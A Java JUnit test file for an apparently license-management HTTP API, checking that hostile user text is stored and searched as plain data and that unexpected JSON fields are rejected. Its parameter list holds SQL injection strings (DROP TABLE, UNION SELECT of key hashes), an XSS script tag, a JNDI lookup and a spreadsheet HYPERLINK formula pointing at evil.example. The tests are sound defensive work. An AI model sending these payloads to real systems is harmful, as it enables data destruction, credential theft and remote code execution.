package io.hourmeter.server.http;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.hourmeter.server.http.TestServer.Reply;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.Map;
import org.junit.jupiter.api.AutoClose;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Texts from outside are data: never a part of a statement, a pattern or a record that they do not belong to. */
class HostileTextsTest {

    @AutoClose
    private static TestServer server;

    @BeforeAll
    static void start(@TempDir Path folder) {
        server = TestServer.start(folder);
    }

    private static String json(Map<String, Object> members) throws Exception {
        return new ObjectMapper().writeValueAsString(members);
    }

    private static JsonNode found(String query) {
        return server.get("/api/licenses?query=" + URLEncoder.encode(query, StandardCharsets.UTF_8))
                .body()
                .path("licenses");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "'; DROP TABLE license; --",
                "' OR '1'='1",
                "\" OR 1=1 --",
                "a\\' UNION SELECT key_sha256 FROM license_key --",
                "$1 ?1 :name @p {0} %s",
                "x% _y\\%",
                "<script>alert(1)</script>",
                "${jndi:ldap://evil.example/x}",
                "=HYPERLINK(\"http://evil.example\")",
                "\u0915\u094d\u200d\u0937 \u0645\u06cc\u200c\u062e"
            })
    void aTextIsKeptShownAndFoundAsItIs(String text) throws Exception {
        Reply created = server.post(
                "/api/licenses", json(Map.of("email", "eve@example.com", "company", text, "name", text, "hours", 1)));
        assertThat(created.status()).as(created.text()).isEqualTo(201);
        JsonNode license = created.body().path("license");
        assertThat(license.path("customer").path("company").asText()).isEqualTo(text);
        String id = license.path("id").asText();

        assertThat(found(text)).hasSize(1);
        assertThat(found(text).path(0).path("id").asText()).isEqualTo(id);
        assertThat(found(text + "'")).isEmpty();

        Reply credited = server.post(
                "/api/licenses/" + id + "/hours", json(Map.of("hours", 1, "reference", "order", "description", text)));
        assertThat(credited.status()).as(credited.text()).isEqualTo(200);
        JsonNode entries = server.get("/api/licenses/" + id + "/history").body().path("entries");
        assertThat(entries.path(0).path("description").asText()).isEqualTo(text);
    }

    @Test
    void membersThatAreNotOfTheCallChangeNothing() throws Exception {
        Reply created = server.post(
                "/api/licenses",
                json(Map.of(
                        "email", "eve@example.com",
                        "company", "",
                        "name", "",
                        "hours", 1,
                        "used_hours", -5,
                        "purchased_hours", 1_000,
                        "id", "lic_0000000000000000",
                        "key", "RL-00000000-00000000-00000000",
                        "status", "revoked")));
        assertThat(created.status()).isEqualTo(400);
        assertThat(server.get("/api/licenses/RL-00000000-00000000-00000000").status())
                .isEqualTo(404);
    }
}
